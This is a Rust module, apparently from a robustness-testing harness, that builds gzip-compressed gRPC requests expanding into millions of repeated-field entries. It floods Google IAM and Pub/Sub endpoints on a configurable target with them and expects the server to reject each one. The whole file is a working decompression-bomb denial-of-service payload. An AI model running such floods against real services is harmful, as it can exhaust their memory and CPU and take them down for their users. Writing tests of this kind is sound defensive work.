//! Ten kilobytes of gzip that decode into millions of parts: a repeated field whose entries have two bytes each. Twenty
//! such requests at once, of one kind after the other.

use std::time::Instant;

use async_trait::async_trait;
use bytes::Bytes;
use futures_util::future::join_all;
use prost::encoding::encode_varint;
use tonic::Code;

use crate::{Attack, Target, raw};

/// Entries of each request; with what is around them a little less than the largest request.
const ENTRIES: usize = 5_000_000;
const AT_ONCE: usize = 20;

/// An RPC, the numbers of the fields through which its repeated field is reached, itself the last.
const KINDS: [(&str, &[u8]); 6] = [
    // Policy.bindings.
    ("/google.iam.v1.IAMPolicy/SetIamPolicy", &[2, 4]),
    // Messages.
    ("/google.pubsub.v1.Publisher/Publish", &[2]),
    // Paths of an update mask.
    ("/google.pubsub.v1.Publisher/UpdateTopic", &[2, 1]),
    // Message transforms.
    ("/google.pubsub.v1.Publisher/CreateTopic", &[13]),
    // Labels.
    ("/google.pubsub.v1.Subscriber/CreateSubscription", &[9]),
    // Ack ids of a stream.
    ("/google.pubsub.v1.Subscriber/StreamingPull", &[2]),
];

/// See the module.
#[derive(Default)]
pub(crate) struct ManyParts {
    requests: Vec<(&'static str, Bytes)>,
}

#[async_trait]
impl Attack for ManyParts {
    fn name(&self) -> &'static str {
        "many parts"
    }

    async fn prepare(&mut self, _target: &Target) {
        self.requests = KINDS
            .iter()
            .map(|(path, fields)| {
                let frame = raw::frame(1, &raw::gzip(&request(fields)));
                (*path, Bytes::from(frame))
            })
            .collect();
    }

    async fn run(&mut self, target: &Target) -> Result<u64, String> {
        let channel = target.channel().await;
        let start = Instant::now();
        let mut sent = 0;
        for (path, body) in self.requests.iter().cycle() {
            let calls = (0..AT_ONCE).map(|_| raw::call(&channel, path, Some("gzip"), body.clone()));
            for (status, _) in join_all(calls).await {
                if status.code() != Code::InvalidArgument {
                    return Err(format!("{path} answered {status}"));
                }
            }
            sent += AT_ONCE as u64;
            if start.elapsed() >= target.lasts {
                break;
            }
        }
        Ok(sent)
    }
}

/// A request in which the last of these fields has many empty entries.
fn request(fields: &[u8]) -> Vec<u8> {
    let key = |field: &u8| (field << 3) | 2;
    let (last, outer) = fields.split_last().expect("a field");
    let mut request = [key(last), 0].repeat(ENTRIES);
    for field in outer.iter().rev() {
        let mut around = vec![key(field)];
        encode_varint(request.len() as u64, &mut around);
        around.extend_from_slice(&request);
        request = around;
    }
    request
}
